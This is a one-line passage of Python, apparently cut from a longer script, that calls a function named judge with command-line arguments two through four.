    judge(*sys.argv[2:5])
